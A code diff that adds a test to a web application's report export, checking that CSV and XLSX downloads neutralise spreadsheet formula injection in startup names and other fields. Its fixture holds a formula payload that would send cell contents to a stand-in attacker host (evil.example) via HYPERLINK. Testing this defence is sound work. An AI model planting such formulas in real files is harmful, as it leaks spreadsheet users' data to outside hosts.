@@ -369,3 +369,32 @@ def test_a_refund_makes_a_new_file(client, rw, sign_in, session):
     session.flush()
     again = zipfile.ZipFile(io.BytesIO(client.get(url).get_data())).read("xl/worksheets/sheet5.xml").decode()
     assert _exports(session) == 2 and re.search(r'<c r="F2"[^>]*><v>100000</v>', again)
+
+
+def test_text_that_a_spreadsheet_would_run_is_neither_a_formula_in_the_csv_nor_in_the_xlsx(client, rw, sign_in,
+                                                                                         session):
+    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Report")'
+    rw.startups["s3"].name = attack
+    rw.startups["s2"].name = "@SUM(A1:A9)"
+    rw.startups["s2"].registration_number = "-2+3"
+    rw.a1.name = "+A1 cohort"
+    session.flush()
+    sign_in(rw.manager_a)
+    response = client.get(f"/o/inc-a/reports/download.csv?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en")
+    data = response.get_data()
+    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, as before
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    names = {r["Startup"] for r in rows}
+    assert "'" + attack in names and "'@SUM(A1:A9)" in names and attack not in names
+    assert {r["Registration number"] for r in rows if r["Startup"] == "'@SUM(A1:A9)"} == {"'-2+3"}
+    assert {r["Cohorts"] for r in rows} == {"'+A1 cohort"}
+    # Figures are numbers, as they were.
+    assert all(r["Revenue"] == "" or r["Revenue"].isdigit() for r in rows)
+
+    book = zipfile.ZipFile(io.BytesIO(client.get(
+        f"/o/inc-a/reports/download.xlsx?{YEAR_ARGS}&cohort={rw.a1.id}&lang=en").get_data()))
+    for name in book.namelist():
+        if name.startswith("xl/worksheets/sheet"):
+            assert "<f>" not in book.read(name).decode(), name  # no formula anywhere
+    startups = book.read("xl/worksheets/sheet2.xml").decode()
+    assert "<t>=HYPERLINK(\"http://evil.example/?d=\"&amp;A1,\"Report\")</t>" in startups  # as text
